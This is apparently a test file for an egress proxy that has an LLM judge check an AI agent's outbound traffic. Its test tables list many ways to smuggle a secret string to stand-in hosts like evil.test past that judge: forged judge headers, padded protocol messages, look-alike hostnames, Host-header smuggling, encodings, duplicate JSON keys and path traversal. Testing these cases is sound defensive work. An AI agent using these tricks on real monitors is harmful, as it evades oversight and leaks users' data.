import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { sendRaw } from '../support/clients.ts'
import type { Asked } from '../support/clients.ts'
import { useStage } from '../support/e2e.ts'
import { allow, deny, startJudge } from '../support/judge.ts'
import type { StubJudge } from '../support/judge.ts'
import { lookOut, observe } from '../support/lookout.ts'
import type { Lookout, Observed } from '../support/lookout.ts'
import { a2aAnswer, a2aSend, chatRequest, MCP_HEADERS, mcpCall } from '../support/messages.ts'
import { startPlumbline } from '../support/plumbline.ts'
import { scratchFolder } from '../support/scratch.ts'
import { sayJson } from '../support/scripted-agent.ts'
import { sightOf } from '../support/sight.ts'
import type { Stage, StageOptions } from '../support/stage.ts'
import { sayOk, startUpstream } from '../support/upstream.ts'
import type { Upstream } from '../support/upstream.ts'

/*
 * What an attacker does so that nobody asks the judge, under `unclassified_policy: judge`. Each attempt is made twice: a
 * judge that says yes shows that it was asked, that it saw the loot, and that the bytes would arrive; one that says no
 * shows that nothing of it arrives. What the attempt imitates passes without a question.
 */

/** What the attacker wants out. */
const LOOT = 'X7B-92K'

/** Every name of these tests leads to the same server. */
const NAMES = [
  ...['tools.test', 'tools.test.', 'llm.test', 'model.test', 'model.test.', 'agents.test'],
  ...['evil.test', 'evil.test.', 'spoken.evil.test', 'refused.evil.test', 'model.test.evil.test', 'xmodel.test'],
  ...['keycloak', 'keycloak.corp', 'keycloak.corp.', 'keycloak.evil.com', 'keycloak.evil.com.', 'xkeycloak.corp'],
  ...[
    'otel-collector.monitoring',
    'otel-collector.github.io',
    'spire-agent.evil.net',
    'prometheus.dev',
    'jaeger.co.uk',
  ],
  ...['keycloak.-x.evil.com', 'keycloak.x-.evil.com', 'files.partner.com', 'a.files.partner.com'],
]

let judge: StubJudge
let world: Upstream

async function prepare(chain: (judgeUrl: string) => readonly Plugin[], more: More = {}): Promise<StageOptions> {
  judge = await startJudge(deny)
  world = await startUpstream()
  const names = Object.fromEntries(NAMES.map((name) => [name, world.port]))
  const pipeline = { inbound: { plugins: ['a2a-parser'] }, outbound: { plugins: chain(judge.url) } }
  return { ...more, config: { pipeline }, names }
}

type Plugin = string | Readonly<Record<string, unknown>>
type More = Pick<StageOptions, 'changeEnvoy'>

const ibac = (judgeUrl: string, more: object = {}): Plugin => {
  const strict = { judge_endpoint: judgeUrl, judge_model: 'stub', unclassified_policy: 'judge', cache_ttl_ms: 0 }
  return { name: 'ibac', config: { ...strict, agent_llm_host: 'model.test:11434', ...more } }
}

/** Each parser knows where its protocol is at home. */
const atHome = (judgeUrl: string): readonly Plugin[] => [
  { name: 'mcp-parser', config: { hosts: ['tools.test'] } },
  { name: 'a2a-parser', config: { hosts: ['agents.test'] } },
  { name: 'inference-parser', config: { hosts: ['llm.test'] } },
  ibac(judgeUrl),
]

/** A stage whose user has asked for something, and what watches the agent on it. */
function useWorld(options: () => Promise<StageOptions>): { stage: () => Stage; agent: () => Lookout } {
  const { stage } = useStage(options)
  let agent: Lookout
  beforeAll(async () => {
    agent = lookOut(stage(), judge, world, stage().client('h1', 'outbound'))
    stage().agent.answer(sayJson(a2aAnswer('Working on it.')))
    const user = stage().client('h1', 'inbound')
    const got = await user.send({ host: 'agent', body: a2aSend('Summarize my mail.'), headers: MCP_HEADERS })
    expect(got.status).toBe(200)
  })
  afterAll(async () => {
    await judge.close()
    await world.close()
  })
  return { stage, agent: () => agent }
}

/** Asked about, and stopped by the answer alone. */
async function expectJudged(agent: Lookout, asked: Asked, shown = LOOT): Promise<void> {
  judge.judge(allow)
  const passed = await agent.arrives(asked)
  expect(passed.ruled).toEqual(['allow/aligned'])
  expect(passed.questions).toEqual([expect.stringContaining(shown)])

  judge.judge(deny)
  const stopped = await agent.isStopped(asked)
  expect(stopped.ruled).toEqual(['deny/blocked'])
  expect(stopped.questions).toEqual([expect.stringContaining(shown)])
  expectRefused(stopped, 403, 'ibac.blocked', 'ibac')
}

function expectRefused({ got, record }: Observed, status: number, code: string, plugin = 'plumbline'): void {
  expect([got.status, record.statusCode, record.phase]).toEqual([status, status, 'denied'])
  expect(JSON.parse(got.text)).toMatchObject({ error: code, plugin, request_id: got.requestId })
}

/** Nobody is asked: it passes, although the judge would say no. */
async function expectSkipped(agent: Lookout, asked: Asked, reason: string): Promise<void> {
  judge.judge(deny)
  expect(await agent.arrives(asked)).toMatchObject({ ruled: [`skip/${reason}`], questions: [] })
}

/** Refused whatever the judge would say; `twin` says the same in plain words and is a matter for the judge. */
async function expectUnreadable(agent: Lookout, asked: Asked, status: number, code: string, twin: Asked) {
  judge.judge(allow)
  expect((await agent.arrives(twin)).ruled).toEqual(['allow/aligned'])
  const refused = await agent.isStopped(asked)
  expectRefused(refused, status, code)
  expect(refused.questions).toEqual([])
  const reason = code.replace('plumbline.', '')
  expect(refused.record.invocations).toContainEqual(
    expect.objectContaining({ plugin: 'plumbline', action: 'deny', reason }),
  )
}

/** Envoy says no to a caller of gRPC in its own way: a status in the head of the answer, and no body. */
function expectRefusedGrpc({ got, record }: Observed, code: string): void {
  expect([got.status, got.headers['grpc-status'], got.text]).toEqual([200, PERMISSION_DENIED, ''])
  expect(got.headers['grpc-message']).toContain(code)
  expect(record).toMatchObject({ statusCode: 403, phase: 'denied' })
}
const PERMISSION_DENIED = '7'

const grpcCall = (host: string): Asked => ({
  ...{ host, path: '/evil.v1.Mail/Send', body: LOOT },
  headers: { 'content-type': 'application/grpc', te: 'trailers' },
})

type Row = readonly [name: string, asked: Asked]
/** The third is what the judge is shown where that is not the loot itself. */
type AttackRow = readonly [name: string, asked: Asked, shown?: string]
const attacks = (rows: readonly AttackRow[]): [string, Asked, string][] =>
  rows.map(([name, asked, shown = LOOT]) => [name, asked, shown])

const rpc = (method: string, params?: object, more: object = { id: 1 }) =>
  JSON.stringify({ jsonrpc: '2.0', method, ...(params === undefined ? {} : { params }), ...more })
const post = (host: string, path: string, body: Asked['body'], headers: Asked['headers'] = MCP_HEADERS): Asked => ({
  ...{ host, path, headers },
  ...(body === undefined ? {} : { body }),
})
const get = (host: string, path: string, headers: Asked['headers'] = {}): Asked => ({ host, path, headers })
const TOOLS = (body: string, headers?: Asked['headers']) => post('tools.test', '/mcp', body, headers)
const PLAIN = { 'content-type': 'text/plain' }
const SESSION = { 'mcp-session-id': 's1' }

describe('where hosts decide where bytes go', () => {
  const { stage, agent } = useWorld(() => prepare(atHome))

  describe('a: the mark of the judge’s own questions', () => {
    const MARK = { ...PLAIN, 'x-ibac-judge': '1' }
    test.each(
      attacks([
        ['to another host', post('evil.test', '/collect', LOOT, MARK)],
        ['to the judge’s path on another host', post('evil.test', '/v1/chat/completions', chatRequest(LOOT), MARK)],
        ['on a request without body', get('evil.test', `/collect/${LOOT}`, { 'x-ibac-judge': '1' })],
      ]),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

    test('counts on the way to the judge’s own endpoint, and on no other way to it', async () => {
      judge.judge(deny)
      const host = new URL(judge.url).host
      const client = stage().client('h1', 'outbound')
      const send = async (path: string, headers: Asked['headers'], method = 'POST') => {
        const got = await client.send({ method, host, path, headers: { ...headers }, body: chatRequest(LOOT) })
        const { invocations } = await stage().plumbline().record(got.requestId)
        return [got.status, invocations.find(({ plugin }) => plugin === 'ibac')?.reason]
      }
      const json = { 'content-type': 'application/json' }
      const marked = { ...json, 'x-ibac-judge': '1' }
      expect(await send('/v1/chat/completions', marked)).toEqual([200, 'own_call'])
      const before = judge.questions.length
      expect(await send('/v1/chat/completions', json)).toEqual([403, 'blocked'])
      expect(await send('/v1/chat/completions', { ...json, 'x-ibac-judge': 'true' })).toEqual([403, 'blocked'])
      expect(await send('/v1/chat/completions', { ...json, 'x-ibac-judge': ['1', '1'] })).toEqual([403, 'blocked'])
      expect(await send(`/v1/chat/completions?q=${LOOT}`, marked)).toEqual([403, 'blocked'])
      expect(await send('/v1/chat/completions/', marked)).toEqual([403, 'blocked'])
      expect(await send('/v1/embeddings', marked)).toEqual([403, 'blocked'])
      expect(await send('/v1/chat/completions', marked, 'PUT')).toEqual([403, 'blocked'])
      // Each was a question of ours, and none was passed on.
      const arrived = judge.questions.slice(before).map(({ arrival }) => `${arrival.method} ${arrival.path}`)
      expect(arrived).toEqual(Array(7).fill('POST /v1/chat/completions'))
    })
  })

  describe('b: housekeeping with something in it', () => {
    const filler = 'a'.repeat(4096)
    const who = { name: 'agent', version: '1' }
    const hello = { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: who }
    test.each(
      attacks([
        ['an unknown parameter', TOOLS(rpc('tools/list', { cursor: 'c', note: LOOT }))],
        ['a parameter where there is none', TOOLS(rpc('ping', { note: LOOT }))],
        ['a client with more to say', TOOLS(rpc('initialize', { ...hello, clientInfo: { ...who, note: LOOT } }))],
        ['free capabilities over 4 KiB', TOOLS(rpc('initialize', { ...hello, capabilities: { [LOOT]: filler } }))],
        ['a cursor over 4 KiB', TOOLS(rpc('tools/list', { cursor: `${LOOT} ${filler}` }))],
        ['a reason over 4 KiB', TOOLS(rpc('notifications/cancelled', { requestId: 1, reason: LOOT + filler }, {}))],
        ['_meta with a key of its own', TOOLS(rpc('ping', { _meta: { note: LOOT } }))],
        ['a member of the envelope', TOOLS(rpc('ping', undefined, { id: 1, note: LOOT }))],
        [
          'a notification that waits for an answer',
          TOOLS(rpc('notifications/progress', { progressToken: LOOT, progress: 1 })),
        ],
        ['a request that waits for none', TOOLS(rpc('tools/list', { cursor: LOOT }, {}))],
        ['as the body of a GET', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'GET' }],
        ['as the body of a DELETE', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'DELETE' }],
        ['as the body of a PUT', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'PUT' }],
        ['a method that sounds like it', TOOLS(rpc('tools/list/all', { note: LOOT }))],
        ['a method in another case', TOOLS(rpc('Tools/List', { cursor: LOOT }))],
        ['another notification', TOOLS(rpc('notifications/note', { text: LOOT }, {}))],
      ]),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

    test.each<Row>([
      ['initialize', TOOLS(rpc('initialize', { ...hello, capabilities: { roots: { listChanged: true } } }))],
      ['notifications/initialized', TOOLS(rpc('notifications/initialized', undefined, {}))],
      ['ping, traced', TOOLS(rpc('ping', { _meta: { traceparent: '00-0-0-01' } }))],
      ['tools/list', TOOLS(rpc('tools/list', { cursor: 'c' }))],
      ['a host in another spelling', post('TOOLS.Test.:80', '/mcp/', rpc('ping'))],
    ])('plain housekeeping: %s', (_, asked) => expectSkipped(agent(), asked, 'protocol_mechanics'))
  })

  describe('c: a request without body on an MCP path', () => {
    test.each(
      attacks([
        ['GET to a host that nobody spoke to', get('evil.test', '/mcp'), 'evil.test/mcp'],
        [
          'DELETE to a host that nobody spoke to',
          { ...get('evil.test', '/mcp', SESSION), method: 'DELETE' },
          'evil.test/mcp',
        ],
        ['a query at home', get('tools.test', `/mcp?q=${LOOT}`)],
        ['a query beside sessionId', get('tools.test', `/sse?sessionId=1&q=${LOOT}`)],
        ['a sessionId with something in it', get('tools.test', `/sse?sessionId=1%20${LOOT}`)],
        ['a path below it', get('tools.test', `/mcp/${LOOT}`)],
        ['DELETE without a session', { ...get('tools.test', '/mcp'), method: 'DELETE' }, 'tools.test/mcp'],
        ['OPTIONS', { ...get('tools.test', '/mcp'), method: 'OPTIONS' }, 'tools.test/mcp'],
        ['DELETE of another path', { ...get('tools.test', `/files/${LOOT}`, SESSION), method: 'DELETE' }],
      ]),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

    test.each<Row>([
      ['GET', get('tools.test', '/mcp', { accept: 'text/event-stream' })],
      ['GET with a slash and a sessionId', get('tools.test', '/sse/?sessionId=ab-1')],
      ['DELETE of a session', { ...get('tools.test', '/mcp', SESSION), method: 'DELETE' }],
    ])('at home: %s', (_, asked) => expectSkipped(agent(), asked, 'protocol_mechanics'))

    test('elsewhere only after a message that the judge allowed, and without a query then either', async () => {
      const stream = get('spoken.evil.test', '/mcp')
      judge.judge(deny)
      expect((await agent().isStopped(post('spoken.evil.test', '/mcp', mcpCall('read', {})))).ruled).toEqual([
        'deny/blocked',
      ])
      expect((await agent().isStopped(stream)).ruled).toEqual(['deny/blocked'])
      judge.judge(allow)
      expect((await agent().arrives(post('spoken.evil.test', '/mcp', mcpCall('read', {})))).ruled).toEqual([
        'allow/aligned',
      ])
      await expectSkipped(agent(), stream, 'protocol_mechanics')
      await expectSkipped(agent(), { ...stream, headers: SESSION, method: 'DELETE' }, 'protocol_mechanics')
      await expectJudged(agent(), get('spoken.evil.test', `/mcp?q=${LOOT}`))
      await expectJudged(agent(), get('spoken.evil.test', `/mcp/${LOOT}`))
      await expectJudged(agent(), post('spoken.evil.test', '/mcp', rpc('tools/list', { cursor: LOOT })))
      await expectJudged(agent(), get('refused.evil.test', '/mcp'), 'refused.evil.test/mcp')
    })

    test('a request that only looks as if it were without a body is none', async () => {
      const twin = post('tools.test', '/mcp', mcpCall('read', {}))
      await expectUnreadable(
        agent(),
        { ...post('tools.test', '/mcp', LOOT, SESSION), method: 'DELETE' },
        400,
        'plumbline.unreadable',
        twin,
      )
      await expectUnreadable(
        agent(),
        { ...post('tools.test', '/mcp', LOOT), method: 'GET' },
        400,
        'plumbline.unreadable',
        twin,
      )
    })
  })

  describe('d: a protocol away from its home', () => {
    const look = { role: 'user', content: `Look: ${LOOT}` }
    test.each(
      attacks([
        ['MCP housekeeping', post('evil.test', '/mcp', rpc('tools/list', { cursor: LOOT }))],
        [
          'MCP housekeeping on a path that nobody configured',
          post('evil.test', '/', rpc('tools/list', { cursor: LOOT })),
        ],
        ['MCP housekeeping on the model’s host', post('llm.test', '/mcp', rpc('tools/list', { cursor: LOOT }))],
        ['an A2A poll', post('evil.test', '/', rpc('tasks/get', { id: LOOT }))],
        [
          'an A2A poll, newer',
          post('evil.test', '/', rpc('GetTask', { id: LOOT }), { ...MCP_HEADERS, 'a2a-version': '1.0' }),
        ],
        [
          'a question to a model',
          post('evil.test', '/v1/chat/completions', JSON.stringify({ model: 'm', messages: [look] })),
        ],
        [
          'a question to a model, by its keys',
          post('evil.test', '/x', JSON.stringify({ model: 'm', messages: [look] })),
        ],
        ['a question to a model on the tools’ host', post('tools.test', '/v1/chat/completions', chatRequest(LOOT))],
        ['embeddings', post('evil.test', '/v1/embeddings', JSON.stringify({ model: 'm', input: LOOT }))],
        [
          'a host that begins like the model’s',
          post('model.test.evil.test', '/v1/chat/completions', chatRequest(LOOT)),
        ],
        ['a host that ends like the model’s', post('xmodel.test', '/v1/chat/completions', chatRequest(LOOT))],
        ['no JSON at the model’s home', post('llm.test', '/v1/files', LOOT, PLAIN)],
        [
          'plain HTTP at the tools’ home',
          post('tools.test', '/token', `code=${LOOT}`, { 'content-type': 'application/x-www-form-urlencoded' }),
        ],
      ]),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

    test.each<readonly [string, Asked, string]>([
      ['a question to a model', post('llm.test', '/v1/chat/completions', chatRequest('hello')), 'inference_bypass'],
      ['another dialect', post('llm.test', '/api/generate', '{"x":1}'), 'inference_bypass'],
      ['models', get('llm.test', '/v1/models'), 'protocol_mechanics'],
      ['the agent’s own model', post('MODEL.test.:11434', '/v1/chat/completions', chatRequest('hi')), 'host_bypass'],
      ['the agent’s own model on another port', get('model.test', '/api/tags'), 'host_bypass'],
      ['an A2A poll', post('agents.test', '/', rpc('tasks/get', { id: 't-1' })), 'protocol_mechanics'],
    ])('at home: %s', (_, asked, reason) => expectSkipped(agent(), asked, reason))

    const call = (host: string) => observe(stage(), judge, stage().client('h2', 'outbound'), grpcCall(host))
    test('gRPC that nobody reads: refused at home, elsewhere shown to the judge by its head', async () => {
      judge.judge(allow)
      const before = sightOf(world)
      const refused = await call('tools.test')
      expectRefusedGrpc(refused, 'plumbline.unsupported_protocol')
      expect(refused.questions).toEqual([])
      expect(sightOf(world)).toEqual(before)

      expect(await call('upstream2.test')).toMatchObject({
        got: { text: 'hello from upstream' },
        ruled: ['allow/aligned'],
      })
      const sight = sightOf(stage().upstream2)
      judge.judge(deny)
      const stopped = await call('upstream2.test')
      expectRefusedGrpc(stopped, 'ibac.blocked')
      expect(stopped.questions).toEqual([expect.stringContaining('/evil.v1.Mail/Send')])
      expect(sightOf(stage().upstream2)).toEqual(sight)
    })
  })

  describe('e: a path that nobody looks at', () => {
    test.each(
      attacks([
        ['with a body', post('evil.test', '/healthz', LOOT, PLAIN)],
        ['with the body of a GET', { ...post('evil.test', '/healthz', LOOT, PLAIN), method: 'GET' }],
        ['with an empty body', post('evil.test', '/healthz', ''), 'evil.test/healthz'],
        ['with a query', get('evil.test', `/healthz?q=${LOOT}`)],
        ['with another method', { ...get('evil.test', '/readyz'), method: 'DELETE' }, 'evil.test/readyz'],
        ['something below it', get('evil.test', `/livez/${LOOT}`)],
        ['parameters of the path', get('evil.test', `/healthz;q=${LOOT}`)],
        ['escapes in the query’s place', get('evil.test', `/healthz%3Fq=${LOOT}`)],
        ['another case', get('evil.test', '/Healthz'), '/Healthz'],
        ['a way round', get('evil.test', `/healthz/../${LOOT}`)],
        ['an escaped way round', get('evil.test', `/healthz/%2e%2e/${LOOT}`)],
        ['another well-known name', get('evil.test', `/.well-known/${LOOT}`)],
        ['below a well-known name', get('evil.test', `/.well-known/agent-card.json/${LOOT}`)],
        ['a resource that nobody configured', get('evil.test', `/.well-known/oauth-protected-resource/${LOOT}`)],
        ['a query to a well-known name', get('evil.test', `/.well-known/openid-configuration?q=${LOOT}`)],
        ['a body to a well-known name', post('evil.test', '/.well-known/agent.json', LOOT, PLAIN)],
      ]),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

    test.each(
      ['/healthz', '/readyz', '/livez', '/.well-known/agent.json', '/.well-known/agent-card.json']
        .concat('/.well-known/jwks.json', '/.well-known/openid-configuration', '/.well-known/oauth-protected-resource')
        .concat('/.well-known/oauth-authorization-server', '/.well-known/oauth-protected-resource/mcp'),
    )('GET %s', (path) => expectSkipped(agent(), get('evil.test', path), 'path_bypass'))
  })

  describe('f, g: a host that is called like one of the control plane', () => {
    test.each(
      attacks(
        [
          'keycloak.evil.com',
          'keycloak.evil.com:8080',
          'KEYCLOAK.Evil.COM',
          'keycloak.evil.com.',
          'Keycloak.evil.com.:443',
        ]
          .concat(
            'keycloak.-x.evil.com',
            'keycloak.x-.evil.com',
            'otel-collector.github.io',
            'spire-agent.evil.net',
            'prometheus.dev',
            'jaeger.co.uk',
            'xkeycloak.corp',
          )
          .map((host) => [host, post(host, '/realms', LOOT, PLAIN)] as const),
      ),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

    test.each(['keycloak', 'keycloak:8080', 'keycloak.corp', 'Keycloak.CORP.:8443', 'otel-collector.monitoring:4318'])(
      'in the cluster: %s',
      (host) => expectSkipped(agent(), post(host, '/v1/traces', 'spans', PLAIN), 'host_bypass'),
    )
  })

  test('f: the host of the request line counts, and not another Host header', async () => {
    const request = (target: string, host: string) =>
      [`POST ${target} HTTP/1.1`, `host: ${host}`, 'content-length: 7', 'connection: close', '', LOOT].join('\r\n')
    const send = (text: string) => sendRaw(stage().envoy.outboundPort, text, () => false)
    judge.judge(deny)
    const before = sightOf(world)
    expect(await send(request('http://evil.test/collect', 'keycloak'))).toMatch(/^HTTP\/1.1 403 /)
    expect(judge.questions.at(-1)?.text).toContain('http://evil.test/collect')
    expect(await send(request('/collect', 'keycloak\r\nhost: evil.test'))).toMatch(/^HTTP\/1.1 403 /)
    expect(judge.questions.at(-1)?.text).toContain('http://keycloak,evil.test/collect')
    expect(sightOf(world)).toEqual(before)
    expect(await send(request('http://keycloak/realms', 'evil.test'))).toMatch(/^HTTP\/1.1 200 /)
    expect(world.arrivals.at(-1)?.path).toBe('/realms')
  })

  test('i: a preflight is judged like any other request', () =>
    expectJudged(agent(), {
      ...get('evil.test', `/collect/${LOOT}`, { origin: 'http://a.test', 'access-control-request-method': 'POST' }),
      method: 'OPTIONS',
    }))

  describe('MCP messages that only sound like housekeeping', () => {
    const answer = (more: object) => TOOLS(JSON.stringify({ jsonrpc: '2.0', id: 1, ...more }))
    test.each(
      attacks([
        ['an answer with content', answer({ result: { content: { type: 'text', text: LOOT } } })],
        ['an error of more than 256 bytes', answer({ error: { code: 1, message: LOOT + 'a'.repeat(256) } })],
        ['an empty answer with something beside it', answer({ result: {}, note: LOOT })],
        ['an empty answer elsewhere', { ...answer({ result: {} }), host: 'evil.test' }, 'evil.test/mcp'],
        [
          'completion/complete',
          TOOLS(
            rpc('completion/complete', {
              ref: { type: 'ref/prompt', name: 'p' },
              argument: { name: 'a', value: LOOT },
            }),
          ),
        ],
        ['resources/subscribe', TOOLS(rpc('resources/subscribe', { uri: `mail:${LOOT}` }))],
        [
          'subscriptions/listen with URIs',
          TOOLS(rpc('subscriptions/listen', { notifications: { resourceSubscriptions: [`mail:${LOOT}`] } })),
        ],
        ['tasks/update', TOOLS(rpc('tasks/update', { taskId: 't', inputResponses: { a: LOOT } }))],
        ['tasks/get of no known task', TOOLS(rpc('tasks/get', { taskId: LOOT }))],
        ['tasks/result of no known task', TOOLS(rpc('tasks/result', { taskId: LOOT }))],
        ['tasks/cancel of no known task', TOOLS(rpc('tasks/cancel', { taskId: LOOT }))],
        [
          'a tool call that waits for no answer',
          TOOLS(rpc('tools/call', { name: 'send', arguments: { code: LOOT } }, {})),
        ],
      ]),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

    test.each<Row>([
      ['an empty answer', answer({ result: {} })],
      ['a short error', answer({ error: { code: -1, message: 'User rejected the request' } })],
      ['subscriptions/listen', TOOLS(rpc('subscriptions/listen', { notifications: { toolsListChanged: true } }))],
    ])('%s', (_, asked) => expectSkipped(agent(), asked, 'protocol_mechanics'))

    test.each<readonly [string, Asked]>([
      ['in the envelope', TOOLS(rpc('tools/call', { name: 'read', arguments: {} }, { id: 1, note: LOOT }))],
      ['among the parameters', TOOLS(rpc('tools/call', { name: 'read', arguments: {}, note: LOOT }))],
      [
        'as an answer to the server',
        TOOLS(rpc('tools/call', { name: 'read', arguments: {}, inputResponses: { a: LOOT } })),
      ],
    ])('what rides along with an allowed call is judged by itself: %s', async (_, asked) => {
      judge.judge(allow)
      expect((await agent().arrives(asked)).ruled).toEqual(['allow/aligned', 'allow/aligned'])
      judge.judge(({ text }) => ({ verdict: text.includes(LOOT) ? 'deny' : 'allow' }))
      const stopped = await agent().isStopped(asked)
      expect(stopped.ruled).toEqual(['allow/aligned', 'deny/blocked'])
      expectRefused(stopped, 403, 'ibac.blocked', 'ibac')
    })

    test('a task is known when the answer to an allowed call named it, to that server only', async () => {
      const poll = (host: string, taskId: string) => post(host, '/mcp', rpc('tasks/get', { taskId }))
      const call = TOOLS(rpc('tools/call', { name: 'read', arguments: {}, task: { ttl: 1000 } }))
      world.answer(
        sayJson(
          JSON.stringify({ jsonrpc: '2.0', id: 1, result: { task: { taskId: `t-${LOOT}`, status: 'working' } } }),
        ),
      )
      try {
        judge.judge(deny)
        await agent().isStopped(call)
        expect((await agent().isStopped(poll('tools.test', `t-${LOOT}`))).ruled).toEqual(['deny/blocked'])
        judge.judge(allow)
        await agent().arrives(call)
      } finally {
        world.answer(sayOk)
      }
      await expectSkipped(agent(), poll('tools.test', `t-${LOOT}`), 'protocol_mechanics')
      await expectSkipped(agent(), TOOLS(rpc('tasks/cancel', { taskId: `t-${LOOT}` })), 'protocol_mechanics')
      await expectJudged(agent(), poll('tools.test', `u-${LOOT}`))
      await expectJudged(agent(), poll('evil.test', `t-${LOOT}`))
      await expectJudged(agent(), TOOLS(rpc('tasks/get', { taskId: `t-${LOOT}`, note: LOOT })))
    })
  })

  describe('a call that is spelled in another way, and read all the same', () => {
    const call = mcpCall('send', { code: LOOT })
    const typed = (type: string | undefined) => (type === undefined ? {} : { 'content-type': type })
    test.each(
      attacks([
        ['called plain text', post('evil.test', '/x', call, PLAIN)],
        ['called nothing', post('evil.test', '/x', call, {})],
        ['called JSON in capitals', post('evil.test', '/x', call, typed('Application/JSON; Charset="UTF-8"'))],
        ['called a form', post('evil.test', '/x', call, typed('application/x-www-form-urlencoded'))],
        ['called multipart', post('evil.test', '/x', call, typed('multipart/form-data; boundary=x'))],
        ['in gzip', post('evil.test', '/x', gzipSync(call), { ...MCP_HEADERS, 'content-encoding': 'gzip' })],
        [
          'in gzip twice',
          post('evil.test', '/x', gzipSync(gzipSync(call)), { ...MCP_HEADERS, 'content-encoding': 'gzip, gzip' }),
        ],
        ['with escapes in its keys', post('evil.test', '/x', call.replace('"method"', '"\\u006dethod"'))],
        ['with escapes in its method', post('evil.test', '/x', call.replace('tools/call', 'tools\\/\\u0063all'))],
        ['after a megabyte of spaces', post('evil.test', '/x', ' '.repeat(1 << 20) + call)],
        ['as the body of a GET', { ...post('evil.test', '/x', call), method: 'GET' }],
        ['as an unknown verb', { ...post('evil.test', '/x', call), method: 'PROPFIND' }],
        ['gzip that is not called gzip', post('evil.test', '/x', gzipSync(call), PLAIN), 'evil.test/x'],
        [
          'an encoding that nobody knows',
          post('evil.test', '/x', gzipSync(call), { ...PLAIN, 'content-encoding': 'rot13' }),
          'evil.test/x',
        ],
        ['lines of JSON', post('evil.test', '/x', `{"a":1}\n{"b":"${LOOT}"}`, PLAIN)],
      ]),
    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
  })

  describe('a call that servers would read in two ways', () => {
    const call = mcpCall('send', { code: LOOT })
    const benign = rpc('ping')
    const utf16 = (text: string) => Buffer.from(text, 'utf16le')
    const swapped = (text: string) => utf16(text).swap16()
    const BOM = '\uFEFF'
    const coded = (coding: string) => ({ ...MCP_HEADERS, 'content-encoding': coding })
    const unreadable = [400, 'plumbline.unreadable'] as const
    const encoding = [415, 'plumbline.unsupported_encoding'] as const

    test.each<readonly [string, Asked, readonly [number, string]]>([
      ['a batch', TOOLS(`[${benign},${call}]`), unreadable],
      ['a batch of one', TOOLS(`[${call}]`), unreadable],
      ['a batch, elsewhere', post('evil.test', '/x', `[${call}]`, PLAIN), unreadable],
      ['a batch of batches', post('evil.test', '/x', `[[${call}]]`), unreadable],
      ['an empty batch', TOOLS('[]'), unreadable],
      ['method twice', TOOLS(benign.replace('{', '{"method":"tools/call",')), unreadable],
      [
        'method twice, once escaped',
        post('evil.test', '/x', benign.replace('{', '{"\\u006dethod":"tools/call",')),
        unreadable,
      ],
      [
        'a key of the arguments twice',
        TOOLS(rpc('tools/call', { name: 'send', arguments: { a: 1 } }).replace('"a":1', '"a":1,"a":2')),
        unreadable,
      ],
      ['Method beside method', TOOLS(benign.replace('{', '{"Method":"tools/call",')), unreadable],
      ['METHOD alone', post('evil.test', '/x', call.replace('"method"', '"METHOD"')), unreadable],
      ['a key with a long s', TOOLS(call.replace('"params"', '"param\u017f"')), unreadable],
      ['JSONRPC alone', post('evil.test', '/x', call.replace('"jsonrpc"', '"JSONRPC"')), unreadable],
      ['Name beside name', TOOLS(call.replace('"name"', '"Name":"read","name"')), unreadable],
      ['a byte order mark', TOOLS(BOM + call), unreadable],
      ['a byte order mark, elsewhere', post('evil.test', '/x', BOM + call, PLAIN), unreadable],
      ['UTF-16', post('tools.test', '/mcp', utf16(call)), unreadable],
      ['UTF-16, elsewhere', post('evil.test', '/x', utf16(call), PLAIN), unreadable],
      ['UTF-16, the other way round, marked', post('evil.test', '/x', swapped(BOM + call), PLAIN), unreadable],
      [
        'UTF-16, said',
        post('evil.test', '/x', utf16(call), { 'content-type': 'application/json; charset=utf-16' }),
        encoding,
      ],
      ['another charset', post('evil.test', '/x', call, { 'content-type': 'application/json; charset=gbk' }), encoding],
      [
        'bytes that are no UTF-8',
        post('tools.test', '/mcp', Buffer.from(call.replace(LOOT, '\xff'), 'latin1')),
        unreadable,
      ],
      ['a lone surrogate', TOOLS(call.replace(LOOT, '\\ud800')), unreadable],
      [
        'two content types',
        post('evil.test', '/x', call, { 'content-type': ['application/json', 'text/plain'] }),
        unreadable,
      ],
      ['gzip that is not called gzip', post('tools.test', '/mcp', gzipSync(call)), encoding],
      ['gzip that is called br', post('tools.test', '/mcp', gzipSync(call), coded('br')), encoding],
      ['plain text that is called gzip', post('evil.test', '/x', call, coded('gzip')), encoding],
      ['an encoding that nobody knows', post('tools.test', '/mcp', call, coded('rot13')), encoding],
      [
        'three encodings',
        post('tools.test', '/mcp', gzipSync(gzipSync(gzipSync(call))), coded('gzip, gzip, gzip')),
        encoding,
      ],
      ['JSON in a text', TOOLS(JSON.stringify(call)), unreadable],
      ['JSON in a text, elsewhere', post('evil.test', '/x', JSON.stringify(call), PLAIN), unreadable],
      ['two messages', TOOLS(`${benign}${call}`), unreadable],
      ['a comment', TOOLS(`${call}//`), unreadable],
      ['a cut message', TOOLS(call.slice(0, -1)), unreadable],
      [
        'too deep',
        TOOLS(rpc('tools/call', { name: 'send', arguments: { a: 0 } }).replace('0', '['.repeat(65) + ']'.repeat(65))),
        unreadable,
      ],
      ['call and answer in one', TOOLS(call.replace('{', '{"result":{},')), unreadable],
      ['an id of null', TOOLS(rpc('tools/call', { name: 'send', arguments: {} }, { id: null })), unreadable],
      ['no version', TOOLS(call.replace('"jsonrpc":"2.0",', '')), unreadable],
      ['parameters as a list', TOOLS('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":["send"]}'), unreadable],
      ['arguments as a text', TOOLS(rpc('tools/call', { name: 'send', arguments: '{}' })), unreadable],
      ['a tool with a hidden character', TOOLS(rpc('tools/call', { name: 'read\u200b', arguments: {} })), unreadable],
      ['another Mcp-Method', TOOLS(call, { ...MCP_HEADERS, 'mcp-method': 'tools/list' }), unreadable],
      [
